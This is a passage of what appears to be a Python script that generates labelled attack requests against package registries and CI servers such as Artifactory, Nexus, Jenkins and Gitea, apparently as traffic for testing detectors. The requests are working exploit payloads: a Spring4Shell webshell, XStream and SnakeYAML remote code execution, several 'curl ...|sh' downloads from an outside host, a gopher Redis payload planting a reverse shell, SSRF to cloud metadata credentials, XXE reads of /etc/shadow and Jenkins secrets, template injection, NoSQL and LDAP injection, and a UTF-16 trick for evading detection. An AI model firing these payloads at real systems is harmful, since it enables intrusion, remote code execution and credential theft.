    req(C, "spring4shell", "POST", "/ui/api/v1/ui/onboarding",
        ahs("artifactory.acme.io", extra=[["suffix", "%>//"], ["c1", "Runtime"], ["c2", "<%"]]),
        form([("class.module.classLoader.resources.context.parent.pipeline.first.pattern",
               "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter(\"cmd\")).getInputStream(); } %{suffix}i"),
              ("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp"),
              ("class.module.classLoader.resources.context.parent.pipeline.first.directory", "webapps/ROOT"),
              ("class.module.classLoader.resources.context.parent.pipeline.first.prefix", "tomcatwar"),
              ("class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat", "")]),
        "application/x-www-form-urlencoded")
    req(C, "spring-cloud-function", "POST", "/functionRouter",
        ahs("registry-events.acme-internal.dev", extra=[["spring.cloud.function.routing-expression", "T(java.lang.Runtime).getRuntime().exec(\"curl http://203.0.113.7/s\")"]]),
        "package-published", "text/plain")
    req(C, "xstream", "POST", "/createItem?name=pwn",
        ahs("jenkins.acme-internal.dev", extra=[["Jenkins-Crumb", rhex(64)]]),
        "<sorted-set>\n  <string>foo</string>\n  <dynamic-proxy>\n    <interface>java.lang.Comparable</interface>\n"
        "    <handler class=\"java.beans.EventHandler\">\n      <target class=\"java.lang.ProcessBuilder\">\n        <command>\n"
        "          <string>bash</string><string>-c</string><string>curl http://203.0.113.7/x|sh</string>\n        </command>\n"
        "      </target>\n      <action>start</action>\n    </handler>\n  </dynamic-proxy>\n</sorted-set>\n", "application/xml")
    req(C, "jackson-gadget", "PUT", "/artifactory/api/build", art_headers(),
        json.dumps({"name": "acme", "number": "1", "properties": ["com.sun.rowset.JdbcRowSetImpl",
                                                                  {"dataSourceName": "ldap://203.0.113.50:1389/Exploit", "autoCommit": True}]}),
        "application/json")
    req(C, "fastjson", "POST", "/api/v1/packages/sync", ahs("npmmirror.acme-internal.dev", accept="application/json"),
        json.dumps({"name": "lodash", "meta": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "rmi://198.51.100.23:1099/Exploit", "autoCommit": True}}),
        "application/json")
    req(C, "snakeyaml", "POST", "/configuration-as-code/apply", ahs("jenkins.acme-internal.dev", extra=[["Jenkins-Crumb", rhex(64)]]),
        "jenkins:\n  systemMessage: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://203.0.113.7/yaml-payload.jar\"]]]]\n",
        "application/x-yaml")

# ===========================================================================
# ATTACKS: SSRF (remote repositories, mirrors, webhooks, Go lookups, badges)
# ===========================================================================

def attack_ssrf():
    C = "ssrf"
    req(C, "artifactory-remote-repo", "PUT", "/artifactory/api/repositories/npm-mirror", art_headers(),
        json.dumps({"key": "npm-mirror", "rclass": "remote", "packageType": "npm", "url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/"}),
        "application/json")
    req(C, "artifactory-remote-repo", "PUT", "/artifactory/api/repositories/generic-mirror", art_headers(),
        json.dumps({"key": "generic-mirror", "rclass": "remote", "packageType": "generic", "url": "file:///etc/passwd"}), "application/json")
    req(C, "nexus-proxy-repo", "POST", "/service/rest/v1/repositories/docker/proxy", nexus_headers(),
        json.dumps({"name": "dockerhub-cache", "online": True, "storage": {"blobStoreName": "default", "strictContentTypeValidation": False},
                    "proxy": {"remoteUrl": "http://localhost:2375/containers/json", "contentMaxAge": 1440, "metadataMaxAge": 1440},
                    "docker": {"v1Enabled": False, "forceBasicAuth": False}, "dockerProxy": {"indexType": "HUB"}}), "application/json")
    req(C, "nexus-proxy-repo", "POST", "/service/rest/v1/repositories/raw/proxy", nexus_headers(),
        json.dumps({"name": "cache", "online": True, "proxy": {"remoteUrl": "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2456%0D%0A%0A%0A%2A%2F1%20%2A%20%2A%20%2A%20%2A%20bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F203.0.113.7%2F4444%200%3E%261%0A%0A%0A%0D%0A"}}),
        "application/json")
    req(C, "nexus-proxy-repo", "POST", "/service/rest/v1/repositories/pypi/proxy", nexus_headers(),
        json.dumps({"name": "pypi-cache", "online": True, "proxy": {"remoteUrl": "http://0251.0376.0251.0376/latest/meta-data/"}}), "application/json")
    ghdr = [["Authorization", "token " + rhex(40)]]
    req(C, "gitea-migrate", "POST", "/api/v1/repos/migrate", ahs("gitea.example.dev", "tea/0.9.2", ghdr),
        json.dumps({"clone_addr": "http://[::ffff:a9fe:a9fe]/latest/meta-data/iam/security-credentials/", "repo_name": "m", "repo_owner": "evil", "service": "git"}),
        "application/json")
    req(C, "gitea-webhook", "POST", "/api/v1/repos/acme/billing/hooks", ahs("gitea.example.dev", "tea/0.9.2", ghdr),
        json.dumps({"type": "gitea", "config": {"url": "http://10.0.0.12:8500/v1/agent/self", "content_type": "json"}, "events": ["push"], "active": True}),
        "application/json")
    req(C, "gitlab-webhook", "POST", "/api/v4/projects/42/hooks", gl_headers(),
        json.dumps({"url": "http://0x7f000001:9200/_cat/indices?v", "push_events": True, "enable_ssl_verification": False}), "application/json")
    req(C, "gitea-push-mirror", "POST", "/api/v1/repos/acme/billing/push_mirrors", ahs("gitea.example.dev", "tea/0.9.2", ghdr),
        json.dumps({"remote_address": "http://localhost:3000/api/v1/admin/users", "remote_username": "x", "remote_password": "x", "interval": "8h0m0s"}),
        "application/json")
    req(C, "helm-repo-add", "POST", "/api/v1/repositories", ahs("artifacthub.acme-internal.dev", accept="application/json", extra=[["Cookie", "sid=" + ralnum(40)]]),
        json.dumps({"kind": 0, "name": "internal", "display_name": "Internal",
                    "url": "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"}), "application/json")
    req(C, "harbor-registry", "POST", "/api/v2.0/registries", ahs("harbor.example.net", extra=[["Authorization", "Basic " + b64("admin:" + ralnum(12))]]),
        json.dumps({"name": "mirror", "type": "docker-registry", "url": "http://2852039166/", "insecure": True}), "application/json")
    req(C, "harbor-registry-ping", "POST", "/api/v2.0/registries/ping", ahs("harbor.example.net", extra=[["Authorization", "Basic " + b64("admin:" + ralnum(12))]]),
        json.dumps({"type": "docker-registry", "url": "http://127.0.0.1:8080/api/v2.0/configurations", "insecure": True}), "application/json")
    for p in ["/169.254.169.254/latest/meta-data/@v/list", "/127.0.0.1:8500/v1/kv/@v/list", "/localhost:6443/api/v1/secrets/@v/latest.info"]:
        req(C, "go-module-path", "GET", p, [["Host", "athens.build.example.net"], ["User-Agent", "Go-http-client/1.1"], ["Accept-Encoding", "gzip"]])
    req(C, "devpi-mirror", "PATCH", "/root/pypi", ahs("devpi.build.example.net", "devpi-client/7.1.0", [["X-Devpi-Auth", b64("root:" + ralnum(40))]]),
        json.dumps({"type": "mirror", "mirror_url": "http://169.254.169.254/latest/user-data/"}), "application/json")
    req(C, "packagist-repo", "POST", "/api/subrepositories/internal/packages/", ahs("packagist.com", accept="application/json", extra=[["Authorization", "PACKAGIST-HMAC-SHA256 Key=%s, Timestamp=1764583200, Cnonce=%s, Signature=%s" % (rhex(32), rhex(16), b64(rbytes(32)))]]),
        json.dumps({"repoType": "vcs", "repoUrl": "http://169.254.169.254/metadata/instance?api-version=2021-02-01"}), "application/json")
    req(C, "conda-mirror", "POST", "/api/mirrors", ahs("conda.acme-internal.dev", accept="application/json", extra=[["Authorization", "token " + ralnum(40)]]),
        json.dumps({"name": "aliyun", "channel_url": "http://100.100.100.200/latest/meta-data/ram/security-credentials/"}), "application/json")
    req(C, "badge-dynamic", "GET", "/badge/dynamic/json?url=%s&query=%s&label=key" % (q("http://169.254.169.254/latest/meta-data/iam/security-credentials/registry-role"), q("$.SecretAccessKey")),
        ahs("badges.acme-internal.dev", pick(BROWSERS), accept="image/svg+xml"))
    req(C, "artifactory-webhook", "POST", "/event/api/v1/subscriptions", art_headers(),
        json.dumps({"key": "notify", "description": "notify", "enabled": True, "event_filter": {"domain": "artifact", "event_types": ["deployed"]},
                    "handlers": [{"handler_type": "webhook", "url": "http://169.254.169.254.nip.io/latest/api/token", "method": "PUT"}]}), "application/json")
    req(C, "npm-url-dep", "POST", "/-/npm/v1/security/audits/quick", npm_headers("npm.acme-internal.dev", cmd="audit", accept="application/json"),
        json.dumps({"name": "app", "version": "1.0.0", "requires": {"evil": "http://registry.npmjs.org@169.254.169.254/latest/meta-data/"},
                    "dependencies": {"evil": {"version": "http://registry.npmjs.org@169.254.169.254/latest/meta-data/"}}}), "application/json")
    req(C, "renovate-registry-url", "POST", "/api/repos/acme/billing/config", ahs("renovate.acme-internal.dev", accept="application/json", extra=[["Authorization", "Bearer " + ralnum(40)]]),
        json.dumps({"packageRules": [{"matchDatasources": ["docker"], "registryUrls": ["http://127.0.0.1:10250/pods"]}]}), "application/json")
    req(C, "dict-scheme", "POST", "/service/rest/v1/repositories/npm/proxy", nexus_headers(),
        json.dumps({"name": "npm-cache2", "online": True, "proxy": {"remoteUrl": "dict://127.0.0.1:11211/stats"}}), "application/json")
    req(C, "import-url", "POST", "/api/v4/projects", gl_headers(),
        json.dumps({"name": "imported2", "import_url": "http://169.254.169.254/computeMetadata/v1/?recursive=true&alt=text"}), "application/json")


# ===========================================================================
# ATTACKS: XXE (POM, maven-metadata, nuspec, SVG, SBOM, ivy, XML-RPC)
# ===========================================================================

def attack_xxe():
    C = "xxe"
    pom = make_pom("com.evil", "xxe", "1.0.0")
    pom1 = pom.replace('<?xml version="1.0" encoding="UTF-8"?>\n',
                       '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE project [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n').replace(
        "<description>", "<description>&xxe;")
    req(C, "pom-entity", "PUT", "/repository/maven-releases/com/evil/xxe/1.0.0/xxe-1.0.0.pom", mvn_headers("nexus.example.net", auth=True), pom1, "text/xml")
    pom2 = pom.replace('<?xml version="1.0" encoding="UTF-8"?>\n',
                       '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE project [\n  <!ENTITY % dtd SYSTEM "http://203.0.113.77/evil.dtd">\n  %dtd;\n]>\n')
    req(C, "pom-param-entity", "PUT", "/artifactory/libs-release-local/com/evil/xxe/1.0.1/xxe-1.0.1.pom", mvn_headers("artifactory.acme.io", auth=True), pom2, "application/xml")
    pom3 = pom.replace("<description>", '<description><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/shadow" parse="text"/>')
    req(C, "pom-xinclude", "PUT", "/repository/maven-releases/com/evil/xxe/1.0.2/xxe-1.0.2.pom", mvn_headers("nexus.example.net", auth=True), pom3, "text/xml")
    pom4 = pom.replace('<?xml version="1.0" encoding="UTF-8"?>\n',
                       '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE project [<!ENTITY x SYSTEM "netdoc:///opt/sonatype/sonatype-work/nexus3/etc/nexus.properties">]>\n').replace(
        "<name>xxe</name>", "<name>&x;</name>")
    req(C, "pom-netdoc", "PUT", "/repository/maven-releases/com/evil/xxe/1.0.3/xxe-1.0.3.pom", mvn_headers("nexus.example.net", auth=True), pom4, "text/xml")
    md = make_metadata("com.evil", "xxe", ["1.0.0"]).replace('<?xml version="1.0" encoding="UTF-8"?>\n',
                                                             '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE metadata [<!ENTITY p SYSTEM "file:///opt/sonatype/sonatype-work/nexus3/admin.password">]>\n').replace(
        "<latest>1.0.0</latest>", "<latest>&p;</latest>")
    req(C, "maven-metadata", "PUT", "/repository/maven-releases/com/evil/xxe/maven-metadata.xml", mvn_headers("nexus.example.net", auth=True), md, "application/xml")
    md2 = make_metadata("com.evil", "xxe", ["1.0.0"]).replace('<?xml version="1.0" encoding="UTF-8"?>\n',
                                                              '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE metadata [<!ENTITY % r SYSTEM "jar:http://203.0.113.77/x.zip!/evil.dtd"> %r;]>\n')
    req(C, "maven-metadata", "PUT", "/artifactory/libs-snapshot-local/com/evil/xxe/maven-metadata.xml", mvn_headers("artifactory.acme.io", auth=True), md2, "application/xml")
    nus = make_nuspec("Evil.Pkg", "1.0.0", "&xxe;").replace('<?xml version="1.0" encoding="utf-8"?>\n',
                                                             '<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE package [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]>\n')
    req(C, "nuspec", "PUT", "/artifactory/nuget-local/Evil.Pkg/Evil.Pkg.1.0.0.nuspec", art_headers(), nus, "application/xml")
    nus2 = make_nuspec("Evil.Pkg", "1.0.1", "&win;").replace('<?xml version="1.0" encoding="utf-8"?>\n',
                                                              '<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE package [<!ENTITY win SYSTEM "file:///c:/windows/win.ini">]>\n')
    req(C, "nuspec", "POST", "/api/v2/package/validate", nuget_headers("nuget.acme-internal.dev", extra=[["X-NuGet-ApiKey", "oy2" + ralnum(43)]]), nus2, "application/xml")
    svg = ('<?xml version="1.0" standalone="yes"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>\n'
           '<svg width="128px" height="128px" xmlns="http://www.w3.org/2000/svg" version="1.1"><text font-size="16" x="0" y="16">&xxe;</text></svg>\n')
    req(C, "svg-icon", "PUT", "/artifactory/generic-local/icons/logo.svg", art_headers(), svg, "image/svg+xml")
    bom = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE bom [<!ENTITY % ext SYSTEM "http://x7k2.oast.example/bom.dtd"> %ext; %send;]>\n'
           '<bom xmlns="http://cyclonedx.org/schema/bom/1.5" version="1">\n  <components>\n    <component type="library">\n'
           '      <name>lodash</name><version>4.17.21</version><purl>pkg:npm/lodash@4.17.21</purl>\n    </component>\n  </components>\n</bom>\n')
    bnd, body = multipart([("project", uuid4()), ("bom", "bom.xml", "application/xml", bom)])
    req(C, "sbom", "POST", "/api/v1/bom", ahs("dtrack.acme-internal.dev", "curl/8.5.0", [["X-Api-Key", "odt_" + ralnum(32)],
                                                                                      ["Content-Type", "multipart/form-data; boundary=" + bnd]]), body)
    ivy = ('<?xml version="1.0"?>\n<!DOCTYPE ivy-module [\n <!ENTITY a "lolololololololololololololololololololol">\n'
           ' <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">\n <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">\n'
           ' <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">\n <!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">\n'
           ' <!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">\n]>\n<ivy-module version="2.0">\n'
           '  <info organisation="com.evil" module="bomb" revision="1.0">\n    <description>&f;</description>\n  </info>\n</ivy-module>\n')
    req(C, "ivy-billion-laughs", "PUT", "/artifactory/ivy-local/com.evil/bomb/1.0/ivys/ivy-1.0.xml", art_headers(), ivy, "application/xml")
    rpc = ('<?xml version="1.0"?>\n<!DOCTYPE methodCall [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<methodCall><methodName>release_data</methodName>'
           '<params><param><value><string>&x;</string></value></param><param><value><string>1.0</string></value></param></params></methodCall>\n')
    req(C, "pypi-xmlrpc", "POST", "/pypi", ahs("pypi.acme-internal.dev", "xmlrpclib.py/1.0.1 (by www.pythonware.com)"), rpc, "text/xml")
    job = ('<?xml version="1.1" encoding="UTF-8"?>\n<!DOCTYPE project [<!ENTITY k SYSTEM "file:///var/jenkins_home/secrets/master.key">]>\n'
           '<project><description>&k;</description><builders/></project>\n')
    req(C, "jenkins-config", "POST", "/job/publish-npm/config.xml", ahs("jenkins.acme-internal.dev", extra=[["Jenkins-Crumb", rhex(64)]]), job, "application/xml")
    cat = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE archetype-catalog [<!ENTITY s SYSTEM "file:///root/.m2/settings.xml">]>\n'
           '<archetype-catalog><archetypes><archetype><groupId>com.evil</groupId><artifactId>a</artifactId><version>1</version>'
           '<description>&s;</description></archetype></archetypes></archetype-catalog>\n')
    req(C, "archetype-catalog", "PUT", "/repository/maven-releases/archetype-catalog.xml", mvn_headers("nexus.example.net", auth=True), cat, "text/xml")
    # UTF-16 encoded POM (evades byte-level matching of "<!ENTITY")
    u16 = pom1.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    raw(C, "pom-utf16", "PUT", "/repository/maven-releases/com/evil/xxe/1.0.4/xxe-1.0.4.pom",
        mvn_headers("nexus.example.net", auth=True), u16, "text/xml; charset=UTF-16")

# ===========================================================================
# ATTACKS: SSTI (README/description renderers, template parameters)
# ===========================================================================

def attack_ssti():
    C = "ssti"
    atk_npm_publish(C, "npm-readme-jinja", name="docs-theme-x", ver="1.0.0",
                    readme="# docs-theme-x\n\n{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}\n")
    atk_npm_publish(C, "npm-desc-handlebars", name="hbs-x", ver="0.0.1",
                    desc='{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}'
                         '{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return require(\'child_process\').execSync(\'id\');"}}{{this.pop}}'
                         '{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}')
    atk_npm_publish(C, "npm-readme-ejs", name="verdaccio-theme-y", ver="2.0.0", host="verdaccio.build.example.net",
                    readme="# theme\n\n<%= global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>\n")
    atk_npm_publish(C, "npm-readme-nunjucks", name="eleventy-plugin-z", ver="1.1.0",
                    readme="# z\n\n{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}\n")
    atk_npm_publish(C, "npm-readme-pug", name="pug-mixins-q", ver="0.2.0",
                    readme="# q\n\n#{global.process.mainModule.require('child_process').execSync('curl http://203.0.113.7/p|sh')}\n")
    atk_pypi_upload(C, "pypi-desc-jinja", {"name": "flask-themes3",
                                           "description": "# flask-themes3\n\n{{ cycler.__init__.__globals__.os.popen('curl http://203.0.113.7/j | sh').read() }}\n"})
    atk_pypi_upload(C, "pypi-summary-mako", {"name": "pyramid-x", "summary": "${self.module.cache.util.os.system(\"id\")}"})
    atk_pypi_upload(C, "pypi-desc-jinja-attr", {"name": "sphinx-x",
                                                "description": "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"})
    pom = make_pom("com.evil", "fm", "1.0.0").replace("<description>", "<description>&lt;#assign ex=\"freemarker.template.utility.Execute\"?new()&gt;${ex(\"id\")}")
    req(C, "pom-freemarker", "PUT", "/repository/maven-releases/com/evil/fm/1.0.0/fm-1.0.0.pom", mvn_headers("nexus.example.net", auth=True), pom, "text/xml")
    req(C, "velocity", "POST", "/artifactory/api/plugins/execute/renderReadme", art_headers(),
        json.dumps({"template": "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($chr=$x.class.forName('java.lang.Character'))"
                                "#set($str=$x.class.forName('java.lang.String'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()"}), "application/json")
    req(C, "thymeleaf-path", "GET", "/ui/lang/__%24%7BT(java.lang.Runtime).getRuntime().exec(%22id%22)%7D__%3A%3A.x",
        ahs("artifactory.acme.io", pick(BROWSERS), accept="text/html"))
    req(C, "twig-packagist", "POST", "/packages/acme/sdk/readme/preview",
        ahs("packeton.acme-internal.dev", pick(BROWSERS), [["Cookie", "PHPSESSID=" + ralnum(26)]], accept="text/html"),
        form([("readme", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}")]), "application/x-www-form-urlencoded")
    req(C, "twig-search", "GET", "/search/?q=%7B%7B%5B%27id%27%5D%7Cfilter%28%27system%27%29%7D%7D", ahs("packagist.acme-internal.dev", accept="text/html"))
    req(C, "erb-profile", "PATCH", "/profile", ahs("gems.acme-internal.dev", pick(BROWSERS), [["Cookie", "_rubygems_session=" + ralnum(60)]], accept="text/html"),
        form([("authenticity_token", ralnum(86)), ("user[full_name]", "<%= `cat /etc/passwd` %>")]), "application/x-www-form-urlencoded")
    req(C, "smarty", "GET", "/index.php?tpl=string:%7Bsystem(%27cat%20/etc/passwd%27)%7D", ahs("satis.acme-internal.dev", accept="text/html"))
    req(C, "jinja-query", "GET", "/search/?q=%7B%7Bconfig.__class__.__init__.__globals__%5B%27os%27%5D.popen%28%27id%27%29.read%28%29%7D%7D",
        ahs("pypi.acme-internal.dev", pick(BROWSERS), accept="text/html"))
    req(C, "spel-thymeleaf-param", "GET", "/service/rest/ui/render?view=%2A%7BT%28org.apache.commons.io.IOUtils%29.toString%28T%28java.lang.Runtime%29.getRuntime%28%29.exec%28%27id%27%29.getInputStream%28%29%29%7D",
        ahs("nexus.example.net", pick(BROWSERS)))


# ===========================================================================
# ATTACKS: NoSQL injection (CouchDB/Mongo-backed registries)
# ===========================================================================

def attack_nosqli():
    C = "nosqli"
    couch = "couch.npm.acme-internal.dev"
    req(C, "couch-find-regex", "POST", "/_users/_find", ahs(couch, accept="application/json"),
        json.dumps({"selector": {"name": {"$regex": "^a"}, "password_sha": {"$gt": None}}, "fields": ["name", "password_sha", "salt"], "limit": 1000}),
        "application/json")
    req(C, "couch-find-dump", "POST", "/registry/_find", ahs(couch, accept="application/json"),
        json.dumps({"selector": {"_id": {"$gt": None}, "$or": [{"access": "restricted"}, {"private": True}]}, "limit": 100000, "execution_stats": True}),
        "application/json")
    req(C, "couch-roles-dup", "PUT", "/_users/org.couchdb.user:oops", ahs(couch, "curl/8.5.0"),
        '{"type": "user", "name": "oops", "roles": ["_admin"], "roles": [], "password": "oops"}', "application/json")
    req(C, "npm-login-ops", "PUT", "/-/user/org.couchdb.user:admin", npm_headers("npm.acme-internal.dev", cmd="login", accept="application/json"),
        json.dumps({"_id": "org.couchdb.user:admin", "name": {"$ne": None}, "password": {"$ne": None}, "type": "user"}), "application/json")
    req(C, "npm-login-escaped", "PUT", "/-/user/org.couchdb.user:admin", npm_headers("verdaccio.build.example.net", cmd="login", accept="application/json"),
        '{"_id":"org.couchdb.user:admin","name":"admin","password":{"\\u0024gt":""},"type":"user"}', "application/json")
    req(C, "query-operator", "GET", "/-/user?username[$regex]=.*&password[$ne]=x", ahs("npm.acme-internal.dev", accept="application/json"))
    req(C, "where-js", "POST", "/api/packages/search", ahs("npm.acme-internal.dev", accept="application/json"),
        json.dumps({"filter": {"$where": "sleep(5000) || true"}, "limit": 20}), "application/json")
    req(C, "where-js", "POST", "/api/packages/search", ahs("npm.acme-internal.dev", accept="application/json"),
        json.dumps({"filter": {"name": "lodash", "$where": "this.owner.password.match(/^a/) && sleep(3000)"}}), "application/json")
    req(C, "expr-function", "POST", "/api/v1/packages/query", ahs("npmmirror.acme-internal.dev", accept="application/json"),
        json.dumps({"q": {"$expr": {"$function": {"body": "function(){var d=new Date();while(new Date()-d<5000){};return true}", "args": [], "lang": "js"}}}}),
        "application/json")
    req(C, "lookup-pipeline", "POST", "/api/v1/stats/downloads", ahs("npmmirror.acme-internal.dev", accept="application/json"),
        json.dumps({"pipeline": [{"$match": {"name": "lodash"}}, {"$lookup": {"from": "users", "localField": "owner", "foreignField": "_id", "as": "u"}},
                                 {"$project": {"u.password": 1, "u.token": 1}}]}), "application/json")
    req(C, "token-regex", "POST", "/-/npm/v1/tokens", npm_headers("npm.acme-internal.dev", cmd="token", accept="application/json"),
        json.dumps({"password": {"$regex": "^.*"}, "readonly": False, "cidr_whitelist": []}), "application/json")
    req(C, "form-operator", "POST", "/-/verdaccio/login", ahs("verdaccio.build.example.net", pick(BROWSERS), accept="application/json"),
        "username=admin&password%5B%24ne%5D=wrong", "application/x-www-form-urlencoded")
    req(C, "json-login-gt", "POST", "/-/verdaccio/sec/login", ahs("verdaccio.build.example.net", pick(BROWSERS), accept="application/json"),
        json.dumps({"username": "admin", "password": {"$gt": ""}}), "application/json")
    req(C, "dist-tags-operator", "GET", "/-/package/lodash/dist-tags?_id[$ne]=1&owner[$exists]=true", ahs("npm.acme-internal.dev", accept="application/json"))


# ===========================================================================
# ATTACKS: LDAP injection in registry logins
# ===========================================================================

def attack_ldap():
    C = "ldap"
    req(C, "nexus-rapture", "POST", "/service/rapture/session", ahs("nexus.example.net", pick(BROWSERS), [["X-Nexus-UI", "true"]], accept="application/json"),
        form([("username", b64("*)(uid=*))(&(uid=*")), ("password", b64("anything"))]), "application/x-www-form-urlencoded")
    req(C, "artifactory-ui-login", "POST", "/ui/api/v1/ui/auth/login", ahs("artifactory.acme.io", pick(BROWSERS), [["X-Requested-With", "XMLHttpRequest"]], accept="application/json"),
        json.dumps({"user": "*)(uid=*))(|(uid=*", "password": "x", "type": "login"}), "application/json")
    req(C, "npm-adduser", "PUT", "/-/user/org.couchdb.user:admin)(%26)", npm_headers("verdaccio.build.example.net", cmd="adduser", accept="application/json"),
        json.dumps({"_id": "org.couchdb.user:admin)(&)", "name": "admin)(&)", "password": "x", "type": "user"}), "application/json")
    req(C, "maven-basic", "GET", "/repository/maven-releases/com/acme/platform/billing-api/maven-metadata.xml",
        ahs("nexus.example.net", MAVEN_UAS[0], [["Authorization", "Basic " + b64("*)(objectClass=*))(|(cn=*:anything")]]))
    req(C, "gitea-login", "POST", "/user/login", ahs("gitea.example.dev", pick(BROWSERS), [["Cookie", "i_like_gitea=" + rhex(16) + "; _csrf=" + ralnum(32)]], accept="text/html"),
        form([("_csrf", ralnum(32)), ("user_name", "*)(&(objectClass=user)(memberOf=CN=Domain Admins*"), ("password", "x")]), "application/x-www-form-urlencoded")
    req(C, "gitlab-ldap", "POST", "/users/auth/ldapmain/callback", ahs("gitlab.example.com", pick(BROWSERS), accept="text/html"),
        form([("authenticity_token", ralnum(86)), ("username", "admin*)((|userPassword=*)"), ("password", "x")]), "application/x-www-form-urlencoded")
    req(C, "harbor-login", "POST", "/c/login", ahs("harbor.example.net", pick(BROWSERS), accept="application/json"),
        "principal=%2A%29%28uid%3D%2A%29%29%28%7C%28uid%3D%2A&password=x", "application/x-www-form-urlencoded")
    req(C, "jenkins-login", "POST", "/j_spring_security_check", ahs("jenkins.acme-internal.dev", pick(BROWSERS), accept="text/html"),
        form([("j_username", "*)(|(objectclass=*)"), ("j_password", "x"), ("from", "/")]), "application/x-www-form-urlencoded")
    req(C, "blind-attr", "POST", "/ui/api/v1/ui/auth/login", ahs("artifactory.acme.io", pick(BROWSERS), accept="application/json"),
        json.dumps({"user": "admin)(userPassword=a*", "password": "*", "type": "login"}), "application/json")
    req(C, "nexus-users", "GET", "/service/rest/v1/security/users?userId=*)(mail=*&source=LDAP", nexus_headers())


# ===========================================================================
# ATTACKS: CRLF injection into response headers
# ===========================================================================

def attack_crlf():
    C = "crlf"
    items = [
        ("artifactory.acme.io", "/artifactory/libs-release-local/com/acme/x/1.0/x-1.0.jar?response-content-disposition=attachment%3Bfilename%3Dx.jar%0D%0ASet-Cookie%3A%20JSESSIONID%3Dattacker"),
        ("npm.acme-internal.dev", "/lodash/-/lodash-4.17.21.tgz%0d%0aLocation:%20http://cb.attacker-infra.example/"),
        ("pypi.acme-internal.dev", "/simple/requests/?redirect=%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E"),
        ("goproxy.acme-internal.dev", "/github.com/acme/x/@v/list%E5%98%8A%E5%98%8DSet-Cookie:%20x=injected"),
        ("chartmuseum.acme-internal.dev", "/charts/acme-api-1.4.2.tgz?download=1%0D%0ASet-Cookie:%20crlf=1"),
        ("registry.acme-internal.dev", "/v2/acme/payments-api/blobs/%s?ns=docker.io%%250d%%250aX-Forwarded-Host:%%2520evil.example" % digest()),
        ("gitea.example.dev", "/user/login?redirect_to=%0d%0aLocation:%20javascript:alert(1)"),
        ("nexus.example.net", "/service/rest/v1/search/assets/download?repository=maven-releases&maven.groupId=com.acme&maven.extension=jar%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E"),
        ("harbor.example.net", "/v2/acme/payments-api/manifests/latest?tag=latest%0d%0aX-Forwarded-Host:%20evil.example"),
        ("artifactory.acme.io", "/artifactory/libs-release-local/com/acme/x/1.0/x-1.0.jar%0D%0ALocation:%20https://evil.example/"),
        ("pypi.acme-internal.dev", "/project/requests/?lang=en%0aSet-Cookie:%20admin=true"),
    ]
    for host, p in items:
        req(C, "header-split", "GET", p, ahs(host))
    atk_npm_publish(C, "npm-attachment-header", name="dl-helper", ver="1.0.0",
                    attach_name="dl-helper-1.0.0.tgz\r\nSet-Cookie: npm_session=attacker; Path=/\r\nX-Injected: 1")


# ===========================================================================
# ATTACKS: protocol (smuggling, unusual methods, range abuse)
# ===========================================================================

def attack_protocol():
    C = "protocol"
    smug = "0\r\n\r\nGET /v2/_catalog HTTP/1.1\r\nHost: localhost\r\nX-Ignore: x"
    req(C, "cl-te", "POST", "/acme/billing.git/git-receive-pack",
        ahs("git.example.org", GIT_UAS[0], [["Transfer-Encoding", "chunked"], ["Content-Type", "application/x-git-receive-pack-request"]]), smug)
